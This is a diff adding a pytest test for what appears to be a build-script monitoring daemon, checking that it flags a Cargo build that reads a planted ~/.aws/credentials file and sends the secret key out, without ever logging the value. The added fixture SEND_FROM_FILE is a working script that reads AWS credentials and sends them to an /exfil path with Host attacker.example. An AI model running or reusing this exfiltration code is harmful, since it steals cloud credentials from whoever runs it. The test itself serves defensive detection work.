@@ -51,3 +51,42 @@ def test_a_build_script_reading_credentials_is_an_alert_and_refused_in_enforce(
     assert daemon.stop() == 0
     for path in (daemon.events_path, daemon.log_path):
         assert CANARY not in path.read_text(), path
+
+
+SECRET_IN_FILE = "wJalrXUtnFEMI/K7MDENG/bPxRfiCYzFILEonly"  # in the file, in no environment
+SEND_FROM_FILE = r'''
+import os, socket, sys, urllib.parse
+text = open(os.path.expanduser("~/.aws/credentials")).read()
+value = text.split("aws_secret_access_key = ")[1].split()[0]
+s = socket.create_connection((sys.argv[1], 8080), timeout=5)
+s.sendall(b"GET /exfil?k=" + urllib.parse.quote(value, safe="").encode() + b" HTTP/1.1\r\n"
+          b"Host: attacker.example\r\n\r\n")
+s.recv(100)
+'''
+
+
+def test_a_value_read_from_a_credential_file_is_recognised_when_sent(
+        daemon: DaemonHandle, test_host: TestHost, workspace: Workspace, tmp_path: Path) -> None:
+    """The build reads ~/.aws/credentials and sends the secret key it found there: the value
+    was never in any environment, yet the alert names the file, and the value is written
+    nowhere."""
+    daemon.restart(policy="version: 1\nmode: audit\n")
+    home = tmp_path / "home"
+    (home / ".aws").mkdir(parents=True)
+    (home / ".aws" / "credentials").write_text(
+        f"[default]\naws_access_key_id = AKIAEXAMPLEKEYID\naws_secret_access_key = "
+        f"{SECRET_IN_FILE}\n")
+    (workspace.root / "send.py").write_text(SEND_FROM_FILE.replace(
+        "sys.argv[1]", repr(test_host.v4)))
+    workspace.cargo_build(test_host, "py=send", env_extra={
+        "HOME": str(home), "RUSTUP_HOME": str(Path.home() / ".rustup"),
+        "CARGO_HOME": str(Path.home() / ".cargo")})
+    alert = daemon.wait_event("the secret_value alert", lambda e: e["type"] == "alert"
+                              and e["kind"] == "secret_value")
+    assert alert["evidence"]["secret_names"] == ["file .aws/credentials"]
+    assert alert["role"] == "build-script" and alert["crate"]["name"] == "evil-dep"
+    assert [r["path"].split("?")[0] for r in test_host.requests()] == ["/exfil"]  # audit
+    assert daemon.stop() == 0
+    for path in (daemon.events_path, daemon.log_path):
+        text = path.read_text()
+        assert SECRET_IN_FILE not in text and "FILEonly" not in text, path
